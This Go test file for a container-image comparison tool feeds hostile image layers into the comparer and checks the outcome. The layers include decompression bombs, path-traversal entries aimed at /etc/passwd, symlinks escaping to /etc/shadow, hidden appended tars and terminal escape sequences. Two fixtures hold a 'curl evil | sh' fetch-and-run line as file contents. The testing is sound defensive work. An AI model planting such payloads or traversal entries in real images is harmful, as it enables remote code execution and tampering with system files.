package compare_test

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"os/exec"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/reprover/reprover/compare"
	"github.com/reprover/reprover/fixtures"
	"github.com/reprover/reprover/image"
	"github.com/reprover/reprover/internal/text"
	"github.com/reprover/reprover/internal/text/texttest"
)

// hostileBase is layer 0 of every image below; layer 1 is the clean or
// the hostile one.
var hostileBase = []fixtures.Entry{
	fixtures.Dir("etc"), fixtures.File("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
	fixtures.Dir("usr"), fixtures.Dir("usr/bin"),
	fixtures.Dir("app"), fixtures.File("app/hello.txt", "hello\n"),
}

// cleanEntries is the clean layer 1.
var cleanEntries = []fixtures.Entry{{Name: "app/run.sh", Body: "#!/bin/sh\necho hi\n", Mode: 0o755}}

// withEntries is the base and a layer 1 of entries.
func withEntries(es ...fixtures.Entry) v1.Image {
	return fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{
		{Instruction: "ADD rootfs.tar /", Entries: hostileBase},
		{Instruction: "COPY app/ /app/", Entries: es},
	}})
}

// withLayers is the base and the given layers 1, 2, ….
func withLayers(ls ...v1.Layer) v1.Image {
	steps := []fixtures.Step{{Instruction: "ADD rootfs.tar /", Entries: hostileBase}}
	for _, l := range ls {
		steps = append(steps, fixtures.Step{Instruction: "COPY app/ /app/", Layer: l})
	}
	return fixtures.Image(fixtures.Spec{Steps: steps})
}

// plus is the clean entries followed by more.
func plus(es ...fixtures.Entry) []fixtures.Entry { return append(slices.Clone(cleanEntries), es...) }

func gz(b []byte) []byte { return fixtures.Compress(b, fixtures.Gzip) }

// reservedFlag is a copy of a gzip member with a reserved header flag set.
func reservedFlag(member []byte) []byte {
	b := slices.Clone(member)
	b[3] |= 0x80
	return b
}

func raw(compressed, uncompressed []byte) v1.Layer {
	return fixtures.RawLayer(compressed, uncompressed, types.OCILayer)
}

func cat(bs ...[]byte) []byte { return bytes.Join(bs, nil) }

// hostileCase is one hostile layer (docs/threat-model.md) compared against a
// clean image: the outcome is either an error (errLimit, errHas) or a
// report (verdict and the exact changes and findings).
type hostileCase struct {
	name    string
	a, b    v1.Image // a is clean unless said
	limits  compare.Limits
	stall   bool          // b's layer 1 is served as a body that never ends
	timeout time.Duration // of the whole comparison

	errLimit string   // the error is a *compare.LimitError for this limit
	errHas   []string // substrings of the error
	// igzipErrHas, when set, replaces errHas when igzip decompresses:
	// it cannot tell a truncated stream from a corrupt one.
	igzipErrHas []string
	errLayer    bool // the error names b's layer 1 and its digest

	verdict string
	files   []string // merged-view changes, exactly: "PATH CHANGE [ASPECTS]"
	layer1  []string // layer 1 changes, exactly
	layer2  []string // layer 2 changes, exactly (when there is a layer 2)
	// layerVerdict is layer 1's verdict, when it matters.
	layerVerdict string
	findings     []string // every finding of the report, exactly: see findingsOf
	// shows are what the text report and the page show of the hostile
	// strings, textShows what the text alone shows: every report is
	// checked for control characters (checkShown).
	shows, textShows []string
}

func hostileCases() []hostileCase {
	clean := withEntries(cleanEntries...)
	cleanTar := fixtures.Tar(cleanEntries...)
	cleanBody := fixtures.TarBody(cleanEntries...)
	eoa := fixtures.EndOfArchive()
	zs := fixtures.Compress(cleanTar, fixtures.Zstd)
	const mib = 1 << 20
	meta := func(name string, a, b fixtures.Entry, aspects string) hostileCase {
		return hostileCase{name: name, a: withEntries(plus(a)...), b: withEntries(plus(b)...), verdict: compare.Different,
			files:  []string{"/" + a.Name + " modified " + aspects},
			layer1: []string{"/" + a.Name + " modified " + aspects}}
	}
	year1 := time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC) // time.Time{} would read as "unset"
	year9999 := time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC)
	size := func(n int64) *int64 { return &n }

	return []hostileCase{
		// 12. Bombs: a cap on uncompressed bytes per layer and per comparison.
		{name: "gzip-bomb", a: clean, b: withLayers(raw(fixtures.GzipBomb(64*mib), nil)),
			limits: compare.Limits{MaxLayerBytes: mib}, errLimit: "MaxLayerBytes", errLayer: true},
		{name: "gzip-bombs-per-comparison", a: clean,
			b: withLayers(raw(fixtures.GzipBomb(700<<10), fixtures.ZeroFileTar(700<<10)),
				raw(fixtures.GzipBomb(800<<10), fixtures.ZeroFileTar(800<<10))),
			limits: compare.Limits{MaxLayerBytes: mib, MaxTotalBytes: mib}, errLimit: "MaxTotalBytes"},
		{name: "zstd-bomb", a: clean, b: withLayers(fixtures.RawLayer(fixtures.ZstdBomb(64*mib, mib), nil, types.OCILayerZStd)),
			limits: compare.Limits{MaxLayerBytes: mib}, errLimit: "MaxLayerBytes", errLayer: true},
		// 13. A window is memory: 1 GiB asked for, 128 MiB allowed.
		{name: "zstd-huge-window", a: clean, b: withLayers(fixtures.RawLayer(fixtures.ZstdWindowFrame(30, cleanTar), cleanTar, types.OCILayerZStd)),
			errLimit: "MaxZstdWindow", errLayer: true},
		{name: "zstd-window-above-layer-limit", a: clean, b: withLayers(fixtures.RawLayer(fixtures.ZstdWindowFrame(22, cleanTar), cleanTar, types.OCILayerZStd)),
			limits: compare.Limits{MaxLayerBytes: mib}, errLimit: "MaxLayerBytes", errLayer: true},
		{name: "zstd-small-window-raw-blocks", a: clean, b: withLayers(fixtures.RawLayer(fixtures.ZstdWindowFrame(20, cleanTar), cleanTar, types.OCILayerZStd)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},
		// 14. Empty members are fine; trailing bytes are not.
		{name: "gzip-5000-empty-members", a: clean, b: withLayers(raw(fixtures.GzipMembers(cleanTar, 5000), cleanTar)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},
		{name: "gzip-trailing-garbage", a: clean, b: withLayers(raw(cat(gz(cleanTar), []byte("garbage after the last member")), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		{name: "gzip-trailing-partial-header", a: clean, b: withLayers(raw(cat(gz(cleanTar), []byte{0x1f, 0x8b, 8}), cleanTar)),
			errHas: []string{"unexpected EOF"}, errLayer: true},
		{name: "gzip-trailing-zeros", a: clean, b: withLayers(raw(cat(gz(cleanTar), make([]byte, 1024)), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		{name: "gzip-trailing-short-zeros", a: clean, b: withLayers(raw(cat(gz(cleanTar), make([]byte, 5)), cleanTar)),
			errHas: []string{"unexpected EOF"}, igzipErrHas: []string{"gzip: invalid header"}, errLayer: true},
		// igzip ignores reserved header flags, which RFC 1952 and Go
		// refuse, in any member.
		{name: "gzip-reserved-flag", a: clean, b: withLayers(raw(reservedFlag(gz(cleanTar)), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		{name: "gzip-reserved-flag-second-member", a: clean, b: withLayers(raw(cat(gz(cleanTar[:700]), reservedFlag(gz(cleanTar[700:]))), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		{name: "gzip-reserved-flag-empty-member", a: clean,
			b:      withLayers(raw(cat(fixtures.EmptyGzipMember(), reservedFlag(fixtures.EmptyGzipMember()), gz(cleanTar)), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		{name: "gzip-reserved-flag-last-empty-member", a: clean, b: withLayers(raw(cat(gz(cleanTar), reservedFlag(fixtures.EmptyGzipMember())), cleanTar)),
			errHas: []string{"gzip: invalid header"}, errLayer: true},
		// A later member's header cut in its name: Go's multistream
		// mode read that as the end of the stream.
		{name: "gzip-trailing-cut-name", a: clean, b: withLayers(raw(cat(gz(cleanTar), []byte{0x1f, 0x8b, 8, 0x08, 0, 0, 0, 0, 0, 0xff, 'h', 'i', 'd', 'd', 'e', 'n'}), cleanTar)),
			errHas: []string{"unexpected EOF"}, igzipErrHas: []string{"corrupt or truncated gzip stream"}, errLayer: true},
		{name: "gzip-tar-across-members", a: clean, b: withLayers(raw(cat(gz(cleanTar[:700]), gz(cleanTar[700:])), cleanTar)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},
		{name: "zstd-trailing-garbage", a: clean, b: withLayers(fixtures.RawLayer(cat(zs, []byte("garbage after the last frame")), cleanTar, types.OCILayerZStd)),
			errHas: []string{"magic number mismatch"}, errLayer: true},
		// 15. Truncated or corrupt: an error, never a partial comparison.
		{name: "gzip-truncated", a: clean, b: withLayers(raw(gz(cleanTar)[:len(gz(cleanTar))/2], cleanTar)),
			igzipErrHas: []string{"igzip -dc: exit status 1", "corrupt or truncated gzip stream"}, errHas: []string{"unexpected EOF"}, errLayer: true},
		{name: "gzip-truncated-trailer", a: clean, b: withLayers(raw(gz(cleanTar)[:len(gz(cleanTar))-8], cleanTar)),
			igzipErrHas: []string{"igzip -dc: exit status 1", "corrupt or truncated gzip stream"}, errHas: []string{"unexpected EOF"}, errLayer: true},
		{name: "gzip-bad-crc", a: clean, b: withLayers(raw(fixtures.BadGzipCRC(gz(cleanTar)), cleanTar)),
			igzipErrHas: []string{"igzip -dc: exit status 1", "corrupt or truncated gzip stream"}, errHas: []string{"gzip: invalid checksum"}, errLayer: true},
		{name: "gzip-bad-size", a: clean, b: withLayers(raw(fixtures.BadGzipSize(gz(cleanTar)), cleanTar)),
			igzipErrHas: []string{"igzip -dc: exit status 1", "corrupt or truncated gzip stream"}, errHas: []string{"gzip: invalid checksum"}, errLayer: true},
		{name: "zstd-bad-checksum", a: clean, b: withLayers(fixtures.RawLayer(fixtures.BadZstdChecksum(zs), cleanTar, types.OCILayerZStd)),
			errHas: []string{"CRC check failed"}, errLayer: true},
		{name: "zstd-truncated", a: clean, b: withLayers(fixtures.RawLayer(zs[:len(zs)-6], cleanTar, types.OCILayerZStd)),
			errHas: []string{"unexpected EOF"}, errLayer: true},
		{name: "diffid-lies", a: clean, b: withLayers(raw(gz(cleanTar), fixtures.Tar(fixtures.File("app/other", "x")))),
			errHas: []string{"the config's diff_id is"}, errLayer: true},
		{name: "body-never-ends", a: clean, b: withLayers(raw(fixtures.Compress(cleanTar, fixtures.GzipBest), cleanTar)), stall: true, timeout: 2 * time.Second,
			errHas: []string{"context deadline exceeded"}, errLayer: true},
		// 16. Media types that lie: sniff, report, refuse the unsupported.
		{name: "media-type-gzip-is-zstd", a: clean, b: withLayers(raw(zs, cleanTar)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: mediaTypeMismatch"}},
		{name: "media-type-gzip-is-plain-tar", a: clean, b: withLayers(raw(cleanTar, cleanTar)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: mediaTypeMismatch"}},
		{name: "media-type-zstd-is-gzip", a: clean, b: withLayers(fixtures.RawLayer(fixtures.Compress(cleanTar, fixtures.GzipBest), cleanTar, types.OCILayerZStd)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: mediaTypeMismatch"}},
		{name: "media-type-gzip-is-bzip2", a: clean, b: withLayers(raw(cat(fixtures.Bzip2Magic, cleanTar), cleanTar)),
			errHas: []string{"unsupported compression"}, errLayer: true},
		{name: "media-type-encrypted", a: clean, b: withLayers(fixtures.RawLayer(gz(cleanTar), cleanTar, types.OCILayer+"+encrypted")),
			errHas: []string{"encrypted layers", "are not supported"}},

		// 17. Special headers beyond archive/tar's 1 MiB, and names that
		// cost memory.
		{name: "pax-header-2MiB", a: clean,
			b:      withLayers(raw(gz(cat(cleanBody, fixtures.PAXHeader(map[string]string{"comment": strings.Repeat("x", 2*mib)}), fixtures.RawHeader{Name: "app/x"}.Block(), eoa)), nil)),
			errHas: []string{"tar entry 1", "header field too long"}, errLayer: true},
		{name: "gnu-long-name-2MiB", a: clean,
			b:      withLayers(raw(gz(cat(cleanBody, fixtures.GNULongName("app/"+strings.Repeat("n", 2*mib)), fixtures.RawHeader{Name: "app/x", GNU: true}.Block(), eoa)), nil)),
			errHas: []string{"tar entry 1", "header field too long"}, errLayer: true},
		{name: "long-names-bounded", a: clean, b: withLayers(raw(gz(fixtures.LongPAXNames(64, 64<<10)), fixtures.LongPAXNames(64, 64<<10))),
			limits: compare.Limits{MaxHeaderBytes: mib}, errLimit: "MaxHeaderBytes", errLayer: true},
		{name: "sparse-8EiB-hole", a: clean,
			b:      withLayers(raw(gz(cat(cleanBody, fixtures.RawHeader{Name: "app/sparse", Typeflag: tar.TypeGNUSparse, GNU: true, RealSize: math.MaxInt64}.Block(), eoa)), nil)),
			limits: compare.Limits{MaxLayerBytes: mib}, errLimit: "MaxLayerBytes", errLayer: true},
		// 18. Entry-count bomb.
		{name: "entry-count-bomb", a: clean, b: withLayers(raw(gz(fixtures.ManyEmptyFiles(5000)), nil)),
			limits: compare.Limits{MaxEntries: 1000}, errLimit: "MaxEntries", errLayer: true},
		{name: "entries-across-layers", a: clean, b: withLayers(raw(gz(fixtures.ManyEmptyFiles(3000)), fixtures.ManyEmptyFiles(3000)), raw(gz(fixtures.ManyEmptyFiles(3001)), fixtures.ManyEmptyFiles(3001))),
			limits: compare.Limits{MaxTotalEntries: 5000}, errLimit: "MaxTotalEntries"},
		// 19. Absurd sizes.
		{name: "size-8EiB", a: clean, b: withLayers(raw(gz(cat(cleanBody, fixtures.RawHeader{Name: "app/huge", Size: math.MaxInt64}.Block(), eoa)), nil)),
			errHas: []string{"/app/huge", "unexpected EOF"}, errLayer: true},
		{name: "size-negative", a: clean, b: withLayers(raw(gz(cat(cleanBody, fixtures.RawHeader{Name: "app/neg", Size: -1}.Block(), eoa)), nil)),
			errHas: []string{"tar entry 1", "invalid tar header"}, errLayer: true},
		{name: "size-on-directory",
			a: withEntries(plus(fixtures.Dir("app/dir"))...),
			b: withLayers(raw(gz(cat(cleanBody, fixtures.RawHeader{Name: "app/dir/", Typeflag: tar.TypeDir, Mode: 0o755, Size: 1000}.Block(), eoa)),
				cat(cleanBody, fixtures.RawHeader{Name: "app/dir/", Typeflag: tar.TypeDir, Mode: 0o755, Size: 1000}.Block(), eoa))),
			verdict: compare.Different, files: []string{"/app/dir modified content,size"}, layer1: []string{"/app/dir modified content,size"},
			findings: []string{"layer 1: dataOnNonFile /app/dir"}},
		{name: "size-on-symlink",
			a: withEntries(plus(fixtures.Symlink("app/link", "run.sh"))...),
			b: withLayers(raw(gz(cat(cleanBody, fixtures.RawHeader{Name: "app/link", Typeflag: tar.TypeSymlink, Linkname: "run.sh", Mode: 0o777, Size: 1000}.Block(), eoa)),
				cat(cleanBody, fixtures.RawHeader{Name: "app/link", Typeflag: tar.TypeSymlink, Linkname: "run.sh", Mode: 0o777, Size: 1000}.Block(), eoa))),
			verdict: compare.Different, files: []string{"/app/link modified size"}, layer1: []string{"/app/link modified size"}},

		// 20. Non-local names are findings and never alias a local path.
		{name: "non-local-names", a: clean,
			b: withEntries(plus(fixtures.File("../../etc/passwd", "evil::0:0::/:/bin/sh\n"), fixtures.File("/abs", "x"),
				fixtures.File("a/../../b", "y"), fixtures.File(`..\..\x`, "z"))...),
			verdict:  compare.Different,
			files:    []string{`/../../etc/passwd added`, `/a/../../b added`, `/abs added`, `/..\..\x added`},
			layer1:   []string{`/../../etc/passwd added`, `/a/../../b added`, `/abs added`, `/..\..\x added`},
			findings: []string{"layer 1: nonLocalName /../../etc/passwd", "layer 1: nonLocalName /abs", "layer 1: nonLocalName /a/../../b", `layer 1: oddName /..\..\x`}},
		{name: "non-local-whiteout", a: clean, b: withEntries(plus(fixtures.Whiteout("../../etc", "passwd"))...),
			verdict: compare.Different, layer1: []string{"/../../etc/.wh.passwd added"},
			findings: []string{"layer 1: nonLocalName /../../etc/.wh.passwd"}},
		{name: "non-local-opaque", a: clean, b: withEntries(plus(fixtures.Opaque("../../etc"))...),
			verdict: compare.Different, layer1: []string{"/../../etc/.wh..wh..opq added"},
			findings: []string{"layer 1: nonLocalName /../../etc/.wh..wh..opq"}},
		{name: "odd-names", a: clean,
			b: withEntries(plus(fixtures.Entry{Name: "app/\xff\xfe", Body: "x", Format: tar.FormatGNU},
				fixtures.File("app/"+strings.Repeat("c", 4096), "x"))...),
			verdict:  compare.Different,
			files:    []string{"/app/" + strings.Repeat("c", 4096) + " added", "/app/\xff\xfe added"},
			layer1:   []string{"/app/" + strings.Repeat("c", 4096) + " added", "/app/\xff\xfe added"},
			findings: []string{"layer 1: longName /app/" + strings.Repeat("c", 4096), "layer 1: invalidUTF8 /app/\xff\xfe"}},
		// 21. Legitimate oddities are not flagged.
		{name: "legit-oddities",
			a:       withEntries(plus(fixtures.Dir("."), fixtures.Dir("usr"), fixtures.Dir("usr/bin"), fixtures.File("usr/bin/tool", "t"), fixtures.Dir("app/sub"))...),
			b:       withEntries(plus(fixtures.Dir("./"), fixtures.Dir("./usr/"), fixtures.Dir("./usr/bin/"), fixtures.File("./usr/bin/tool", "t"), fixtures.Dir("app/sub/"))...),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},

		// 22. Link targets are data; a missing hard-link target is reported.
		{name: "symlink-escapes", a: clean,
			b: withEntries(plus(fixtures.Symlink("app/evil", "../../../etc/shadow"), fixtures.Symlink("app/abs", "/etc/shadow"),
				fixtures.Symlink("app/c1", "c2"), fixtures.Symlink("app/c2", "../../.."))...),
			verdict:  compare.Different,
			files:    []string{"/app/abs added", "/app/c1 added", "/app/c2 added", "/app/evil added"},
			layer1:   []string{"/app/abs added", "/app/c1 added", "/app/c2 added", "/app/evil added"},
			findings: []string{"layer 1: escapingSymlink /app/evil", "layer 1: escapingSymlink /app/c2"}},
		{name: "hardlink-missing-target", a: clean, b: withEntries(plus(fixtures.Hardlink("app/hl", "app/missing"))...),
			verdict: compare.Different, files: []string{"/app/hl added"}, layer1: []string{"/app/hl added"},
			findings: []string{"danglingHardlink /app/hl"}},
		{name: "hardlink-later-target", a: clean, b: withEntries(plus(fixtures.Hardlink("app/hl", "app/later"), fixtures.File("app/later", "x"))...),
			verdict: compare.Different, files: []string{"/app/hl added", "/app/later added"}, layer1: []string{"/app/hl added", "/app/later added"},
			findings: []string{"danglingHardlink /app/hl"}},
		{name: "hardlink-escapes", a: clean, b: withEntries(plus(fixtures.Hardlink("app/hl", "../../etc/passwd"))...),
			verdict: compare.Different, files: []string{"/app/hl added"}, layer1: []string{"/app/hl added"},
			findings: []string{"layer 1: nonLocalLink /app/hl", "danglingHardlink /app/hl"}},
		{name: "hardlink-chain", a: clean,
			b:       withEntries(plus(fixtures.File("app/a", "x"), fixtures.Hardlink("app/b", "app/a"), fixtures.Hardlink("app/c", "app/b"))...),
			verdict: compare.Different, files: []string{"/app/a added", "/app/b added", "/app/c added"},
			layer1: []string{"/app/a added", "/app/b added", "/app/c added"}},

		// 23. Duplicates: every occurrence counts; the last wins.
		{name: "duplicate-file-then-file", a: clean, b: withEntries(append([]fixtures.Entry{fixtures.File("app/run.sh", "curl evil | sh\n")}, cleanEntries...)...),
			verdict: compare.Different, layer1: []string{"/app/run.sh modified occurrences"}},
		{name: "duplicate-file-then-dir", a: withEntries(plus(fixtures.Dir("app/x"))...), b: withEntries(plus(fixtures.File("app/x", "data"), fixtures.Dir("app/x"))...),
			verdict: compare.Different, layer1: []string{"/app/x modified occurrences"}},

		// 24. Whiteouts.
		{name: "whiteout-dot-and-dotdot", a: clean, b: withEntries(plus(fixtures.Whiteout("app", "."), fixtures.Whiteout("app", ".."))...),
			verdict: compare.Different, layer1: []string{"/app/.wh.. added", "/app/.wh... added"},
			findings: []string{"layer 1: invalidWhiteout /app/.wh..", "layer 1: invalidWhiteout /app/.wh..."}},
		{name: "opaque-after-siblings",
			a:       withEntries(plus(fixtures.Dir("etc"), fixtures.Opaque("etc"), fixtures.File("etc/passwd", "new\n"))...),
			b:       withEntries(plus(fixtures.Dir("etc"), fixtures.File("etc/passwd", "new\n"), fixtures.Opaque("etc"))...),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},
		{name: "whiteout-and-file-same-layer",
			a:       withEntries(plus(fixtures.File("app/hello.txt", "new\n"))...),
			b:       withEntries(plus(fixtures.File("app/hello.txt", "new\n"), fixtures.Whiteout("app", "hello.txt"))...),
			verdict: compare.Different, layer1: []string{"/app/.wh.hello.txt added"}},
		{name: "whiteout-is-directory", a: clean, b: withEntries(plus(fixtures.Dir("app/.wh.hello.txt"))...),
			verdict: compare.Different, files: []string{"/app/hello.txt removed"}, layer1: []string{"/app/.wh.hello.txt added"},
			findings: []string{"layer 1: oddWhiteout /app/.wh.hello.txt"}},
		{name: "whiteout-under-symlink",
			a: fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Entries: hostileBase},
				{Entries: plus(fixtures.Symlink("app/etc", "/etc"))}, {Entries: []fixtures.Entry{fixtures.File("app/log", "")}}}}),
			b: fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Entries: hostileBase},
				{Entries: plus(fixtures.Symlink("app/etc", "/etc"))}, {Entries: []fixtures.Entry{fixtures.File("app/log", ""), fixtures.Whiteout("app/etc", "passwd")}}}}),
			verdict: compare.Different, layer2: []string{"/app/etc/.wh.passwd added"},
			findings: []string{"underSymlink /app/etc/passwd"}},

		// 25. Metadata is compared as data, whoever runs reprover.
		meta("char-device-number", fixtures.Entry{Name: "app/null", Type: tar.TypeChar, DevMajor: 1, DevMinor: 3},
			fixtures.Entry{Name: "app/null", Type: tar.TypeChar, DevMajor: 1, DevMinor: 5}, "devnum"),
		meta("block-device-number", fixtures.Entry{Name: "app/sda", Type: tar.TypeBlock, DevMajor: 8, DevMinor: 0},
			fixtures.Entry{Name: "app/sda", Type: tar.TypeBlock, DevMajor: 8, DevMinor: 1}, "devnum"),
		meta("file-becomes-fifo", fixtures.File("app/pipe", ""), fixtures.Entry{Name: "app/pipe", Type: tar.TypeFifo}, "content,type"),
		meta("setuid", fixtures.Entry{Name: "app/su", Body: "x", Mode: 0o755}, fixtures.Entry{Name: "app/su", Body: "x", Mode: 0o4755}, "mode"),
		meta("setgid-sticky", fixtures.Entry{Name: "app/tmp", Type: tar.TypeDir, Mode: 0o777}, fixtures.Entry{Name: "app/tmp", Type: tar.TypeDir, Mode: 0o3777}, "mode"),
		meta("security-capability", fixtures.File("app/ping", "x"),
			fixtures.Entry{Name: "app/ping", Body: "x", Xattrs: map[string]string{"security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"}}, "xattrs"),
		meta("security-selinux", fixtures.Entry{Name: "app/f", Body: "x", Xattrs: map[string]string{"security.selinux": "system_u:object_r:bin_t:s0"}},
			fixtures.Entry{Name: "app/f", Body: "x", Xattrs: map[string]string{"security.selinux": "system_u:object_r:shadow_t:s0"}}, "xattrs"),
		meta("trusted-xattr", fixtures.Dir("app/d"), fixtures.Entry{Name: "app/d", Type: tar.TypeDir, Xattrs: map[string]string{"trusted.overlay.opaque": "y"}}, "xattrs"),
		meta("uid-2^31", fixtures.File("app/f", "x"), fixtures.Entry{Name: "app/f", Body: "x", UID: 1 << 31}, "uid"),
		meta("gid-2^32", fixtures.File("app/f", "x"), fixtures.Entry{Name: "app/f", Body: "x", GID: 1 << 32}, "gid"),
		meta("mtime-year-1", fixtures.File("app/f", "x"), fixtures.Entry{Name: "app/f", Body: "x", ModTime: year1}, "mtime"),
		meta("mtime-year-9999", fixtures.File("app/f", "x"), fixtures.Entry{Name: "app/f", Body: "x", ModTime: year9999}, "mtime"),

		// 26. Format tricks that hide content.
		{name: "pax-path-overrides-name", a: clean,
			b: withLayers(raw(gz(cat(cleanBody, fixtures.PAXHeader(map[string]string{"path": "app/evil.sh"}),
				fixtures.RawHeader{Name: "app/harmless.txt", Size: 5}.Data([]byte("evil\n")), eoa)),
				cat(cleanBody, fixtures.PAXHeader(map[string]string{"path": "app/evil.sh"}),
					fixtures.RawHeader{Name: "app/harmless.txt", Size: 5}.Data([]byte("evil\n")), eoa))),
			verdict: compare.Different, files: []string{"/app/evil.sh added"}, layer1: []string{"/app/evil.sh added"}},
		{name: "unknown-typeflag", a: clean, b: withEntries(plus(fixtures.Entry{Name: "app/odd", Type: 'Z', Body: "data", Size: size(4)})...),
			verdict: compare.Different, files: []string{"/app/odd added"}, layer1: []string{"/app/odd added"},
			findings: []string{"layer 1: unknownType /app/odd", "layer 1: dataOnNonFile /app/odd"}},
		{name: "second-tar-appended", a: clean,
			b: withLayers(raw(gz(cat(cleanTar, fixtures.Tar(fixtures.File("app/evil.sh", "curl evil | sh\n")))),
				cat(cleanTar, fixtures.Tar(fixtures.File("app/evil.sh", "curl evil | sh\n"))))),
			verdict: compare.Different, layerVerdict: compare.Different, findings: []string{"layer 1: trailingData"}},
		{name: "non-zero-byte-after-end-of-archive", a: clean,
			b:       withLayers(raw(gz(cat(cleanTar, []byte{0, 0, 1, 0})), cat(cleanTar, []byte{0, 0, 1, 0}))),
			verdict: compare.Different, layerVerdict: compare.Different, findings: []string{"layer 1: trailingData"}},
		{name: "same-trailing-data-other-zero-padding",
			a:       withLayers(raw(gz(cat(cleanTar, []byte("hidden"))), cat(cleanTar, []byte("hidden")))),
			b:       withLayers(raw(gz(cat(cleanTar, []byte("hidden"), make([]byte, 1024))), cat(cleanTar, []byte("hidden"), make([]byte, 1024)))),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: trailingData", "layer 1: trailingData"}},
		{name: "other-trailing-data",
			a:       withLayers(raw(gz(cat(cleanTar, []byte("hidden"))), cat(cleanTar, []byte("hidden")))),
			b:       withLayers(raw(gz(cat(cleanTar, []byte("hidden!"))), cat(cleanTar, []byte("hidden!")))),
			verdict: compare.Different, layerVerdict: compare.Different, findings: []string{"layer 1: trailingData", "layer 1: trailingData"}},
		{name: "pax-global-header-skipped", a: clean,
			b:       withEntries(append([]fixtures.Entry{{Type: 'g', PAX: map[string]string{"comment": "not a file"}}}, cleanEntries...)...),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: paxGlobalHeader"}},
		{name: "no-end-of-archive", a: clean, b: withLayers(raw(gz(cleanBody), cleanBody)),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: noEndOfArchive"}},
		{name: "half-an-end-of-archive", a: clean, b: withLayers(raw(gz(cat(cleanBody, make([]byte, 512))), cat(cleanBody, make([]byte, 512)))),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent, findings: []string{"layer 1: noEndOfArchive"}},
		{name: "zero-padding-not-flagged", a: clean, b: withLayers(raw(gz(cat(cleanTar, make([]byte, 8192))), cat(cleanTar, make([]byte, 8192)))),
			verdict: compare.Equivalent, layerVerdict: compare.Equivalent},

		// Strings that act on the terminal (issue 25): names, a link
		// target, a history entry and a file's lines with escape
		// sequences (set the window title, clear the screen, ring the
		// bell), a bidi override, a C1 CSI and a newline reach the text
		// report and the page made visible, each name on its line.
		{name: "terminal-escapes",
			a: withEntries(plus(fixtures.File("app/notes.txt", "hello\nsame\n"))...),
			b: fixtures.Image(fixtures.Spec{Steps: []fixtures.Step{{Instruction: "ADD rootfs.tar /", Entries: hostileBase},
				{Instruction: "COPY app/ /app/ \x1b]0;pwned\x07", Entries: plus(
					fixtures.File("app/notes.txt", "hello \x1b[31mred\x07\tthere\nsame\n"),
					fixtures.File("app/a\x1b]0;pwned\x07b", "x"),
					fixtures.Symlink("app/link", "\x1b[2J\x1b[Htarget"),
					fixtures.File("app/evil\u202e\u2066txt.sh", "x"),
					fixtures.File("app/csi\u009b2J", "x"),
					fixtures.File("app/two\nlines", "x"))}}}),
			verdict: compare.Different,
			files: []string{"/app/notes.txt modified content,size", "/app/a\x1b]0;pwned\x07b added", "/app/link added",
				"/app/evil\u202e\u2066txt.sh added", "/app/csi\u009b2J added", "/app/two\nlines added"},
			layer1: []string{"/app/notes.txt modified content,size", "/app/a\x1b]0;pwned\x07b added", "/app/link added",
				"/app/evil\u202e\u2066txt.sh added", "/app/csi\u009b2J added", "/app/two\nlines added"},
			shows: []string{`/app/a\x1b]0;pwned\x07b`, `COPY app/ /app/ \x1b]0;pwned\x07`, `hello \x1b[31mred\x07` + "\t" + `there`,
				`/app/evil\u202e\u2066txt.sh`, `/app/csi\u009b2J`, `/app/two\nlines`, `+++ B/app/two\nlines`},
			textShows: []string{`symlink 0777 0:0 → \x1b[2J\x1b[Htarget`}},
	}
}

// decompressors are the ways to decompress gzip that the hostile
// tables run through: both must reach the same outcome.
func decompressors(t testing.TB) []string {
	if _, err := exec.LookPath("igzip"); err != nil {
		t.Fatalf("igzip is not on PATH (make tools installs Debian's isal): %v", err)
	}
	return []string{compare.DecompressGo, compare.DecompressIgzip}
}

// TestHostileLayers pushes each hostile layer of docs/threat-model.md through a
// real registry and compares its image with a clean one, decompressing gzip
// in Go and with igzip: the outcome is a bounded error that names the layer
// or limit, or a report that names the difference — never a panic, a hang
// or a false identical.
func TestHostileLayers(t *testing.T) {
	reg := fixtures.NewRegistry(t)
	decs := decompressors(t)
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			layers, err := c.b.Layers()
			if err != nil {
				t.Fatal(err)
			}
			hostile, err := layers[1].Digest()
			if err != nil {
				t.Fatal(err)
			}
			r := reg
			if c.stall {
				r = fixtures.StartRegistry(fixtures.StallBlob(hostile))
				defer r.Close()
			}
			repo := "hostile/" + strings.Map(func(r rune) rune {
				if 'a' <= r && r <= 'z' || '0' <= r && r <= '9' {
					return r
				}
				if 'A' <= r && r <= 'Z' {
					return r - 'A' + 'a'
				}
				return '-'
			}, c.name)
			refA := r.MustPush(t, repo, "a", c.a)
			refB := r.MustPush(t, repo, "b", c.b)
			for _, dec := range decs {
